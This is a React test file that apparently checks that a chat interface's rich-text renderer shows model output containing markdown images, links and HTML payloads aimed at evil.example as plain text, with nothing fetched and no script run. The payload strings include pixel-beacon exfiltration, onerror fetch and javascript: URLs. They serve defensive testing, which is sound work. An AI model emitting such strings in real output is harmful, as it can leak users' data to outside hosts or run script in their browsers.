import { screen } from '@testing-library/react';
import { expect, test } from 'vitest';
import { renderScreen } from '@/mocks/render';
import { blocksOf, RichText } from './rich-text';

const SENT_OUT = [
  '![pixel](https://evil.example/p.png?told=secret)',
  '[click me](https://evil.example/?told=secret)',
  '[x]: https://evil.example/ref "r"',
  '<img src=x onerror="fetch(`//evil.example/`)">',
  '<a href="javascript:alert(1)">a</a><iframe src="//evil.example"></iframe>',
  '<svg onload=alert(1)><style>@import url(//evil.example/s.css)</style>',
  '<link rel="prefetch" href="//evil.example"><meta http-equiv="refresh" content="0;//evil.example">',
  '<https://evil.example/auto> https://evil.example/bare',
];
const FETCHING = 'img,a,iframe,svg,style,link,meta,script,object,embed,video,audio,source,form';

test.each(SENT_OUT)('what a model says fetches nothing: %s', (words) => {
  const { container } = renderScreen(<RichText text={`Look:\n${words}\nThat is all.`} />);
  expect(container.querySelector(FETCHING)).toBeNull();
  expect(container.querySelector('[src],[href],[srcset],[style],[onerror],[onload]')).toBeNull();
  expect(container.textContent).toContain(words);
});

test('markup in a code block stays code, also behind an open fence', () => {
  const words = SENT_OUT.join('\n');
  const { container } = renderScreen(<RichText text={`\`\`\`html\n${words}`} />);
  expect(container.querySelector('img,a,iframe,script,style,link,meta')).toBeNull();
  expect(screen.getByLabelText('Code').textContent).toBe(words);
  expect(blocksOf(words).map((block) => block.isCode)).toEqual([false]);
});
